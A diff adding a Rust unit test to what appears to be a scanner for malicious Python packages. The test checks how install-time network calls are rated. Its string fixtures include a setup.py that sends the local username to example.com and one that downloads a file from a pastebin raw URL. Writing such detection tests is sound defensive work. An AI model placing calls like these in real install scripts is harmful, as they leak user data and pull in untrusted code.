@@ -556,3 +556,16 @@ fn ordinary_patterns_are_not_warnings() {
     let beacon = "import urllib.request\ndef ping():\n    urllib.request.urlopen('https://example.com/p')\nping()\n";
     assert!(has(&run("mpl/__init__.py", FileRole::PackageInit, beacon), AlertId::ImportNetwork));
 }
+
+#[test]
+fn install_time_downloads_are_not_droppers() {
+    // a build fetching a data file into a temp path: install-download (high), not a block
+    let src = "import urllib.request, tempfile\ntmp = tempfile.mktemp()\nurllib.request.urlretrieve('https://example.com/data/tlds.txt', tmp)\n";
+    let f = run("p-1.0/setup.py", FileRole::SetupScript, src);
+    assert!(has(&f, AlertId::InstallDownload) && !critical(&f), "{f:#?}");
+    // sending data, or fetching from a paste site, is install-network (critical)
+    let post = "import urllib.request, getpass\nurllib.request.urlopen('https://example.com/c', data=getpass.getuser().encode())\n";
+    assert!(has(&run("p-1.0/setup.py", FileRole::SetupScript, post), AlertId::InstallNetwork));
+    let paste = "import urllib.request\nurllib.request.urlretrieve('https://pastebin.com/raw/abc', 'x.txt')\n";
+    assert!(has(&run("p-1.0/setup.py", FileRole::SetupScript, paste), AlertId::InstallNetwork));
+}
